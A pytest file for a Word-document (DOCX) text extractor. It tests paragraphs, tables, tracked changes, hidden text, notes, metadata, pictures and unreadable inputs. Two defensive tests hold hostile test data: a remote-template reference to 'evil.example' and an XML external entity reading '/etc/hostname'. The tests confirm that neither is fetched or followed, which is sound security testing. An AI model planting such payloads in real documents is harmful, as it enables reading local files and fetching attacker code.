"""Word documents as Word, LibreOffice, Google Docs and others write them, part by part."""

import io
import zipfile

import docx
import pytest
from PIL import Image as Drawn

from witnessmark.archive.common import Found
from witnessmark.archive.formats.docx import FORMAT
from witnessmark.errors import BadInput, Remark
from witnessmark.model.document import Document
from witnessmark.model.media_item import MediaItem

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
CORE = (
    '<cp:coreProperties xmlns:cp="c" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
    "<dc:title>Daily report</dc:title><dc:creator>T. Hrabar</dc:creator><cp:lastModifiedBy>I. Halas</cp:lastModifiedBy>"
    "<dcterms:created>2024-05-03T11:00:00Z</dcterms:created><dcterms:modified>2024-05-04T08:00:00Z</dcterms:modified></cp:coreProperties>"
)


def relations(*each: tuple[str, str] | tuple[str, str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="r{i}" Type="{OFFICE}/{kind}" Target="{target}"{"".join(f" TargetMode={mode!r}" for mode in more)}/>'
        for i, (kind, target, *more) in enumerate(each)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in {"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>', **parts}.items():
            made.writestr(name, content)
    return out.getvalue()


def made(body: str, more: dict[str, str | bytes] | None = None, space: str = WORD, main: str = "word/document.xml") -> bytes:
    document = (
        f'<?xml version="1.0"?><w:document xmlns:w="{space}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        f'xmlns:wps="wps" xmlns:v="v" xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><w:body>{body}</w:body></w:document>'
    )
    return packed({"_rels/.rels": relations(("officeDocument", main)), main: document, **(more or {})})


def stored(name: str, content: bytes) -> bytes:
    """A zip archive of somebody's files, with one as it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def para(*runs: str) -> str:
    return f"<w:p>{''.join(run if run.startswith('<') else f'<w:r><w:t>{run}</w:t></w:r>' for run in runs)}</w:p>"


def read(data: bytes) -> list[Found]:
    return list(FORMAT.read(io.BytesIO(data), "a.docx"))


def document(data: bytes) -> Document:
    [found] = [each for each in read(data) if isinstance(each, Document)]
    return found


def text(body: str) -> str:
    return document(made(body)).text


def said(data: bytes) -> list[str]:
    return [str(each) for each in read(data) if isinstance(each, (Remark, BadInput))]


def test_paragraphs_and_their_regions() -> None:
    found = document(made(para("Two were ", "hurt in Lysove.") + para() + para("Nobody was killed.")))
    assert found.text == "Two were hurt in Lysove.\nNobody was killed."
    assert [(region.kind, region.at, found.text[region.start : region.end]) for region in found.regions] == [
        ("paragraph", "1", "Two were hurt in Lysove."),
        ("paragraph", "3", "Nobody was killed."),
    ]


def test_spaces_tabs_breaks_and_hyphens_are_kept() -> None:
    runs = '<w:t xml:space="preserve">a </w:t><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t><w:noBreakHyphen/><w:t>d</w:t><w:softHyphen/><w:t>e</w:t>'
    assert text(para(f"<w:r>{runs}</w:r>")) == "a \tb\nc\u2011d\xade"


def test_a_table_has_its_cells_parted_by_tabs_and_a_region_for_each_row() -> None:
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>".format
    table = f"<w:tbl><w:tr>{cell('Lysove')}{cell('2')}</w:tr><w:tr><w:tc>{para('a')}{para('b')}</w:tc>{cell('3')}</w:tr></w:tbl>"
    found = document(made(para("Before.") + table))
    assert found.text == "Before.\nLysove\t2\na b\t3"
    assert [(region.kind, region.at) for region in found.regions][1:] == [("row", "1 of table 1"), ("row", "2 of table 1")]


def test_a_table_inside_a_cell_and_one_inside_a_content_control() -> None:
    inner = f"<w:tbl><w:tr><w:tc>{para('x')}</w:tc><w:tc>{para('y')}</w:tc></w:tr></w:tbl>"
    assert text(f"<w:tbl><w:tr><w:tc>{para('a')}{inner}{para()}</w:tc><w:tc>{para('b')}</w:tc></w:tr></w:tbl>") == "a x y\tb"
    assert text(f"<w:sdt><w:sdtPr/><w:sdtContent>{inner}</w:sdtContent></w:sdt>") == "x\ty"


def test_links_fields_and_smart_tags_give_what_is_seen_of_them() -> None:
    link = '<w:hyperlink r:id="r1" xmlns:r="r"><w:r><w:t>the council</w:t></w:r></w:hyperlink>'
    field = '<w:r><w:instrText>DATE \\@ "d"</w:instrText></w:r><w:fldSimple w:instr="PAGE"><w:r><w:t>7</w:t></w:r></w:fldSimple>'
    tag = "<w:smartTag><w:r><w:t> Lysove</w:t></w:r></w:smartTag>"
    assert text(para(link, " said ", field, tag)) == "the council said 7 Lysove"


TRACKED = para(
    "Killed: ",
    '<w:del w:author="I. Halas" w:date="2024-05-03T10:00:00Z"><w:r><w:delText>three</w:delText></w:r></w:del>',
    '<w:ins w:author="T. Hrabar"><w:r><w:t>five</w:t></w:r></w:ins>',
    '<w:moveFrom w:author="I. Halas"><w:r><w:t> here</w:t></w:r></w:moveFrom>',
    '<w:moveTo w:author="I. Halas"><w:r><w:t> there</w:t></w:r></w:moveTo>',
)


def test_what_was_deleted_is_no_text_and_who_changed_it_is_told() -> None:
    assert text(TRACKED) == "Killed: five there"
    assert said(made(TRACKED)) == [
        "a.docx: it holds tracked changes by I. Halas, T. Hrabar (1 deleted, 1 inserted, 2 moved); "
        "it is read as if all were accepted, without what was deleted"
    ]


def test_a_deleted_row_is_left_out() -> None:
    row = "<w:tr>{}<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc></w:tr>".format
    gone = row('<w:trPr><w:del w:author="A"/></w:trPr>', "gone")
    assert text(f"<w:tbl>{gone}{row('', 'stays')}</w:tbl>") == "stays"


def test_hidden_text_is_left_out_and_told() -> None:
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r>"
    shown = '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t> shown</w:t></w:r>'
    data = made(para("Two", hidden, shown))
    assert document(data).text == "Two shown"
    assert said(data) == ["a.docx: 6 letters in it are hidden; they are left out"]


def test_a_text_box_is_read_once_and_after_its_paragraph() -> None:
    box = f"<w:txbxContent>{para('In the box.')}</w:txbxContent>"
    both = f"<mc:Choice Requires='wps'><wps:wsp>{box}</wps:wsp></mc:Choice><mc:Fallback>{box}</mc:Fallback>"
    assert text(para("Before.", f"<w:r><mc:AlternateContent>{both}</mc:AlternateContent></w:r>")) == "Before.\nIn the box."


def test_formulas_keep_their_letters() -> None:
    assert text(para("n = ", "<m:oMath><m:r><m:t>12</m:t></m:r></m:oMath>")) == "n = 12"


def test_notes_come_after_the_text_and_comments_are_told() -> None:
    notes = (
        f'<w:footnotes xmlns:w="{WORD}"><w:footnote w:type="separator" w:id="-1">{para("")}</w:footnote>'
        f'<w:footnote w:id="1">{para("As of noon.")}</w:footnote></w:footnotes>'
    )
    comments = f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Desk">{para("Check this.")}</w:comment></w:comments>'
    parts = {
        "word/_rels/document.xml.rels": relations(("footnotes", "footnotes.xml"), ("comments", "/word/comments.xml")),
        "word/footnotes.xml": notes,
        "word/comments.xml": comments,
    }
    data = made(para("Five were hurt.", '<w:r><w:footnoteReference w:id="1"/></w:r>'), parts)
    found = document(data)
    assert (found.text, found.regions[-1].at) == ("Five were hurt.\nAs of noon.", "1 of footnote 1")
    assert said(data) == ["a.docx: it holds 1 comment by Desk; they are left out"]


def test_headers_and_footers_are_left_out() -> None:
    parts = {
        "word/_rels/document.xml.rels": relations(("header", "header1.xml")),
        "word/header1.xml": f'<w:hdr xmlns:w="{WORD}">{para("Page head")}</w:hdr>',
    }
    assert document(made(para("Text."), parts)).text == "Text."


def test_what_the_file_says_of_itself() -> None:
    parts = {"docProps/core.xml": CORE}
    found = document(made(para("Text."), parts))
    assert (found.title, found.author, found.published) == ("Daily report", "T. Hrabar", None)
    assert said(made(para("Text."), parts)) == [
        "a.docx: it gives no date of publication; by its own word the file was made 2024-05-03T11:00:00Z "
        "and last changed 2024-05-04T08:00:00Z by I. Halas"
    ]


def test_the_strict_standard_and_a_main_part_of_another_name() -> None:
    assert document(made(para("Strict."), space=STRICT)).text == "Strict."
    assert document(made(para("Online."), main="word/document2.xml")).text == "Online."


def test_a_prefix_of_ones_own_as_small_programs_write_it() -> None:
    body = f'<document xmlns="{WORD}"><body><p><r><t>No prefix.</t></r></p></body></document>'
    assert document(packed({"word/document.xml": body})).text == "No prefix."


def test_macros_are_said_and_outside_parts_are_not_fetched() -> None:
    parts = {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        "word/_rels/document.xml.rels": relations(
            ("attachedTemplate", "https://evil.example/t.dotm", "External"), ("hyperlink", "https://a.example", "External")
        ),
    }
    assert said(made(para("Text."), parts)) == [
        "a.docx: it holds macros, which are never run",
        "a.docx: it would fetch https://evil.example/t.dotm where it is opened; nothing was fetched here",
    ]


def picture() -> bytes:
    out = io.BytesIO()
    Drawn.new("RGB", (30, 20)).save(out, "PNG")
    return out.getvalue()


def test_pictures_inside_are_items_with_their_place() -> None:
    parts: dict[str, str | bytes] = {
        "word/media/image10.png": picture(),
        "word/media/image2.png": picture(),
        "word/media/image1.emf": b"\x01\x00\x00\x00",
    }
    media = [each for each in read(made(para("Text."), parts)) if isinstance(each, MediaItem)]
    assert [(each.within, each.width) for each in media] == [(("part 1: image2.png",), 30), (("part 2: image10.png",), 30)]
    assert "drawings of the EMF and WMF kinds in it, which are not looked into: 1" in said(made(para("Text."), parts))[0]


def test_a_whole_page_put_inside_is_read() -> None:
    parts: dict[str, str | bytes] = {
        "word/_rels/document.xml.rels": relations(("aFChunk", "/word/afchunk.txt")),
        "word/afchunk.txt": b"Two were hurt in Lysove.",
    }
    [found] = [each for each in read(made('<w:altChunk r:id="r0" xmlns:r="r"/>', parts)) if isinstance(each, Document)]
    assert (found.text, found.regions[0].at) == ("Two were hurt in Lysove.", "1: afchunk.txt")


def test_a_document_of_a_library() -> None:
    written = docx.Document()
    written.add_heading("Зведення", 1)
    written.add_paragraph("Двоє поранених.", style="List Bullet")
    table = written.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "Лисове", "2"
    out = io.BytesIO()
    written.save(out)
    assert document(out.getvalue()).text == "Зведення\nДвоє поранених.\nЛисове\t2"


def test_an_entity_is_not_followed() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'
    body = f'<w:document xmlns:w="{WORD}"><w:body>{para("Safe.")}{para("&b;")}</w:body></w:document>'
    assert document(packed({"word/document.xml": bomb + body})).text == "Safe."


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "it is an old Word document (.doc), which is not read; add a copy saved as DOCX or PDF",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "it is locked with a password; add a copy saved without one"),
        (b"{\\rtf1\\ansi Two were hurt.}", "it is a document of the RTF kind, which is not read; add a copy saved as DOCX or PDF"),
        (b"", "it is no Word document, whatever it is called"),
        (made(para())[:200], "it is no whole zip archive"),
        (packed({}), "the member word/document.xml is not there"),
        (packed({"word/document.xml": "<w:document"}), "its main part is no XML"),
        (packed({"word/document.xml": "<a>" * 3000 + "</a>" * 3000}), "its main part is no XML"),
        (made(para()), "text is empty"),
    ],
)
def test_what_cannot_be_read_says_why(data: bytes, error: str) -> None:
    [found] = read(data)
    assert isinstance(found, BadInput) and error in str(found)


def test_how_it_is_known() -> None:
    assert FORMAT.sniff("download", made(para("Text."))) > 80
    assert FORMAT.sniff("report.doc", b"{\\rtf1") > 0
    assert FORMAT.sniff("late.docx", made(para("Text."))[:60]) > 0
    assert FORMAT.sniff("a.zip", zipped := stored("report.docx", made(para("Text.")))) == 0 and b"word/document" in zipped
    assert FORMAT.sniff("a.txt", b"Two were hurt.") == 0


SEEDS = [made(TRACKED + para("Text."), {"docProps/core.xml": CORE, "word/media/a.png": picture()})]
